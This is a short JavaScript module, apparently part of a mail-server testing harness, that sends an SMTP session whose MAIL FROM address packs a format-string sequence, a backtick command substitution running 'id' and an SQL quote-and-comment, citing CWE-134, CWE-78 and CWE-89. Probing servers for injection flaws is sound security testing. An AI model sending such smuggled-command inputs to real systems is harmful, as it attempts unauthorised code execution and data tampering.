import { talk } from '../attack.mjs';

/** Puts signs for printf, shell and SQL into an address. Source: CWE-134, CWE-78, CWE-89. */
export default talk({ sent: 0, steps: () => ['EHLO a\r\n', "MAIL FROM:<%s%n`id`'--@example.org>\r\n", 'QUIT\r\n'] });
